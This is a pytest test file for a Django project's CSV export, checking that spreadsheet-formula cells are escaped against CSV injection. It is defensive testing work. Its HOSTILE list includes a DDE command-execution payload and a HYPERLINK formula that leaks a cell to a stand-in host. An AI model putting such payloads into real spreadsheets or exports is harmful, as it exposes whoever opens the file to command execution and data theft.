"""Issue 12: every CSV santui writes escapes spreadsheet formulas (OWASP's rule).

The one CSV writer (santui.tally.opendata.writers.CsvEncoder) serves /data/*.csv and writes
`santui export`; the rule itself is santui.tally.opendata.csvsafe. (The import's rejects file is
JSON Lines, not CSV.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from santui.publish.caching import forget_state
from santui.tally.actions import tally_integrate
from santui.tally.opendata import schemas
from santui.tally.opendata.csvsafe import spreadsheet_safe, spreadsheet_text
from santui.tally.opendata.writers import encode
from tests.factories import AcceptedStatementFactory
from tests.tally.test_opendata import at

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_hostile_text_cell_gets_a_quote_in_front(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_text(spreadsheet_safe(cell)) == cell


@pytest.mark.parametrize("cell", ["三退", "1+1", "a=b", "", " =1", "李明", "2005-04-20"])
def test_harmless_text_is_left_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


@given(st.text(max_size=30))
def test_the_escape_is_safe_and_reversible(text: str) -> None:
    cell = spreadsheet_safe(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert spreadsheet_text(cell) == text


def test_the_writer_escapes_text_and_lists_but_not_numbers() -> None:
    fields = [
        schemas.Field("persons", "integer", "", required=True),
        schemas.Field("label", "string", ""),
        schemas.Field("items", "list", ""),
    ]
    rows = [
        {"persons": -1, "label": "-1+1", "items": ["=1", "x"]},
        {"persons": 5, "label": "@SUM(1+1)", "items": ["party"]},
    ]
    data = b"".join(encode("csv", fields, rows))
    got = [list(r.values()) for r in _cells(data)]
    assert got == [["-1", "'-1+1", "'=1,x"], ["5", "'@SUM(1+1)", "party"]]


@pytest.fixture
def hostile_statements() -> list[Any]:
    made = [
        AcceptedStatementFactory(
            received_at=at("2005-04-20"),
            text=text,
            name=f"@name{number}",
            name_kind="alias",
            publish=True,
        )
        for number, text in enumerate(HOSTILE)
    ]
    tally_integrate()
    forget_state()
    return made


def _check_statements_csv(data: bytes) -> None:
    rows = _cells(data)
    assert sorted(r["text"] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert {r["name"] for r in rows} == {f"'@name{n}" for n in range(len(HOSTILE))}
    assert all(r["headcount"] == "1" for r in rows)  # numbers are numbers


@pytest.mark.django_db
def test_data_statements_csv_escapes_what_declarants_typed(
    client: Client, hostile_statements: list[Any]
) -> None:
    response = client.get("/data/statements.csv")
    _check_statements_csv(b"".join(response.streaming_content))


@pytest.mark.django_db
def test_santui_export_escapes_every_csv(hostile_statements: list[Any], tmp_path: Path) -> None:
    call_command("export", str(tmp_path), "--no-progress", stdout=io.StringIO())
    _check_statements_csv((tmp_path / "statements.csv").read_bytes())
    for path in tmp_path.glob("*.csv"):  # no cell of any file starts a formula
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").isdigit(), (path.name, cell)
